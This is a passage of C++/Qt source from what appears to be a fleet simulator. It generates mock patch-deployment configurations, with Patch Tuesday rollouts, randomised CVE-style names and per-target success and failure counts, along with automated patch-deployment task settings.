        c.modifiedMs = c.createdMs + qint64(m_rng.bounded(48 * 3600)) * 1000;
        c.templateId = f.m_policies.at(m_rng.bounded(int(f.m_policies.size()))).templateId;
        c.action = c.status == S::Draft || c.status == S::DraftDownloadFailed ? QStringLiteral("Draft")
                                                                              : QStringLiteral("Deploy");
        const int targetCount = std::min<int>(int(f.m_computers.size()), m_rng.between(1, 40));
        const int first = m_rng.bounded(int(f.m_computers.size()));
        for (int t = 0; t < targetCount; ++t)
            c.targets << (first + t * 7) % int(f.m_computers.size());
        c.platform = f.m_osProfiles.at(f.m_computers.at(c.targets.first()).os).platform;
        const QDateTime when = QDateTime::fromMSecsSinceEpoch(c.createdMs, QTimeZone::utc());
        const QString firstName = f.m_computers.at(c.targets.first()).name;
        switch (i % 6) {
        case 0:
            c.name = QStringLiteral("Patch Tuesday %1 - Workstations").arg(when.toString(QStringLiteral("yyyy-MM")));
            break;
        case 1:
            c.name = QStringLiteral("Patch Tuesday %1 - Servers").arg(when.toString(QStringLiteral("yyyy-MM")));
            break;
        case 2:
            c.name = QStringLiteral("Google Chrome rollout - %1").arg(when.toString(QStringLiteral("dd MMM")));
            break;
        case 3:
            c.name = QStringLiteral("Emergency - CVE-%1-%2").arg(when.date().year()).arg(m_rng.between(20000, 59999));
            break;
        case 4:
            c.name = QStringLiteral("Peazip x64 - %1").arg(firstName.toLower());
            break;
        default:
            c.name = QStringLiteral("Third-party updates - %1").arg(when.toString(QStringLiteral("MMMM")));
            break;
        }
        c.description = QStringLiteral("--");
        c.uninstall = i % 11 == 10;
        c.total = targetCount;
        switch (c.status) {
        case S::Deployed:
        case S::Executed:
            c.failed = m_rng.bounded(std::max(1, targetCount / 5 + 1));
            c.notApplicable = m_rng.bounded(2);
            c.succeeded = std::max(0, targetCount - c.failed - c.notApplicable);
            break;
        case S::InProgress:
        case S::RetryInProgress:
            c.succeeded = targetCount / 2;
            c.retrying = c.status == S::RetryInProgress ? std::max(1, targetCount / 5) : 0;
            c.yetToApply = targetCount - c.succeeded - c.retrying;
            break;
        default:
            c.yetToApply = targetCount;
            break;
        }
        for (int t : std::as_const(c.targets)) {
            c.offices.insert(f.m_computers.at(t).office);
            c.domains.insert(f.m_computers.at(t).domain);
        }
        if (!c.uninstall && (c.status == S::Deployed || c.status == S::Executed))
            f.m_historicConfigNames << c.name;
        f.m_configs.append(c);
    }
}

void FleetGenerator::makeApdTasks()
{
    struct Spec
    {
        const char *name, *platform, *targetType, *targetList, *templateName, *description;
        bool suspended;
    };
    const Spec specs[] = {
        {"Windows Patch Tuesday", "Windows", "CUSTOM_GROUP", "Pilot Ring", "Force reboot excluding servers",
         "Monthly OS patches, pilot first", false},
        {"Third-party apps weekly", "Windows", "REMOTE_OFFICE", "Local Office", "Deploy any time at the earliest",
         "Browsers, readers and tools", false},
        {"Mac monthly", "Mac", "CUSTOM_GROUP", "Mac Fleet", "Deploy during business hours", "macOS and Mac apps", true},
    };
    int i = 0;
    for (const Spec &s : specs) {
        ApdTask t;
        t.name = QString::fromLatin1(s.name);
        t.suspended = s.suspended;
        t.createdMs = R - qint64(120 + i * 40) * DayMs;
        t.modifiedMs = t.createdMs + qint64(5 + i) * DayMs;
        t.lastRunMs = R - qint64(1 + i * 2) * DayMs - 3 * HourMs;
        t.nextRunMs = R + qint64(1 + i * 3) * DayMs + 2 * HourMs;
        t.settings = QJsonObject{
            {QStringLiteral("taskName"), t.name},
            {QStringLiteral("templateName"), QString::fromLatin1(s.templateName)},
            {QStringLiteral("description"), QString::fromLatin1(s.description)},
            {QStringLiteral("platform"), QString::fromLatin1(s.platform)},
            {QStringLiteral("target_type"), QString::fromLatin1(s.targetType)},
            {QStringLiteral("target_list"), QString::fromLatin1(s.targetList)},
            {QStringLiteral("security_update"), QStringLiteral("true")},
            {QStringLiteral("thirdparty_update"), i == 1 ? QStringLiteral("true") : QStringLiteral("false")},
            {QStringLiteral("email"), QStringLiteral("patching@zylker.com")},
            {QStringLiteral("failure_notify_enable"), QStringLiteral("true")},
            {QStringLiteral("failure_notify_duration"), QStringLiteral("1")}};
        m_fleet.m_apdTasks.append(t);
        ++i;
    }
}

} // namespace pmp::sim
